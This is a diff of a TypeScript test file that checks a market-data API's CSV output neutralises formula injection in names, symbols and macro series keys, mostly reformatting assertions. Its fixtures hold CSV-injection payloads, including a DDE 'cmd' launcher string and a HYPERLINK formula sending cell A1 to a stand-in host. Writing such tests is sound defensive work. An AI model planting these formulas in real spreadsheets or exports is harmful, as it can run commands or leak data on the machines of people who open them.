@@ -11,7 +11,7 @@ import { csv, KLINE_HEADER, tempDir, writeSnapshotFolder } from '../../helpers/s
 const NAMES: Record<string, string> = {
   sh600001: '=HYPERLINK("http://x.example/?"&A1,"click")',
   sh600002: '+1+2',
-  sh600003: '-3+cmd|\' /C calc\'!A0',
+  sh600003: "-3+cmd|' /C calc'!A0",
   sh600004: '@SUM(A1:A9)',
   sh600005: 'Plain, with a comma',
 };
@@ -22,12 +22,19 @@ let cleanup: () => Promise<void>;
 before(async () => {
   const dir = await tempDir('mdq-csv-');
   cleanup = dir.cleanup;
-  const klines = symbols.flatMap((s, i) => [`${s},2025-01-02,10,11,9,${10 + i},1000,10000.5,1`, `${s},2025-01-03,10,11,-9.5,${10.5 + i},1000,-2.25,1`]);
+  const klines = symbols.flatMap((s, i) => [
+    `${s},2025-01-02,10,11,9,${10 + i},1000,10000.5,1`,
+    `${s},2025-01-03,10,11,-9.5,${10.5 + i},1000,-2.25,1`,
+  ]);
   // A symbol may start with '-' ([A-Za-z0-9._-]): its code is text too.
   klines.push('-A1,2025-01-02,1,2,0.5,1.5,10,15,1');
   await writeSnapshotFolder(dir.path, {
     'manifest.json': JSON.stringify({ id: 'csv-injection' }),
-    'ashare/symbols.csv': csv('symbol,name', ...symbols.map((s) => `${s},"${NAMES[s].replace(/"/g, '""')}"`), '-A1,minus'),
+    'ashare/symbols.csv': csv(
+      'symbol,name',
+      ...symbols.map((s) => `${s},"${NAMES[s].replace(/"/g, '""')}"`),
+      '-A1,minus',
+    ),
     'ashare/klines.csv': csv(KLINE_HEADER, ...klines),
     'macro.csv': csv('indicator,date,key,value', 'gdp,2024-12-31,=EVIL(),1.5', 'gdp,2024-12-31,GDP_GDP,-7'),
   });
@@ -60,8 +67,15 @@ test('detail and batch detail: the name cell is neutralised, numbers are not', a
   assert.deepEqual(one[0], ['symbol', 'date', 'name', 'close', 'change']);
   assert.deepEqual(one[1], ['sh600001', '2025-01-03', neutralised(NAMES.sh600001), '10.5', '0.5']);
   const batch = await table(`/api/v1/ashare/detail?symbols=${symbols.join(',')}&fields=name,low`);
-  assert.deepEqual(batch.slice(1).map((r) => r[2]), [...symbols.slice(0, 4).map((s) => neutralised(NAMES[s])), NAMES.sh600005]);
-  assert.deepEqual(batch.slice(1).map((r) => r[3]), ['-9.5', '-9.5', '-9.5', '-9.5', '-9.5'], 'a negative number stays a number');
+  assert.deepEqual(
+    batch.slice(1).map((r) => r[2]),
+    [...symbols.slice(0, 4).map((s) => neutralised(NAMES[s])), NAMES.sh600005],
+  );
+  assert.deepEqual(
+    batch.slice(1).map((r) => r[3]),
+    ['-9.5', '-9.5', '-9.5', '-9.5', '-9.5'],
+    'a negative number stays a number',
+  );
 });
 
 test('screen: names neutralised, negative numbers untouched', async () => {
@@ -78,7 +92,10 @@ test('K-lines: a symbol starting with - is text; negative amounts are numbers', 
   const minus = await table('/api/v1/ashare/klines/-A1');
   assert.equal(minus[1][0], "'-A1");
   const batch = await table('/api/v1/ashare/klines?symbols=-A1,sh600002&fields=low');
-  assert.deepEqual(batch.slice(1).map((r) => r[0]), ["'-A1", 'sh600002', 'sh600002']);
+  assert.deepEqual(
+    batch.slice(1).map((r) => r[0]),
+    ["'-A1", 'sh600002', 'sh600002'],
+  );
 });
 
 test('macro: a series key that would start a formula is a neutralised header; values stay numbers', async () => {
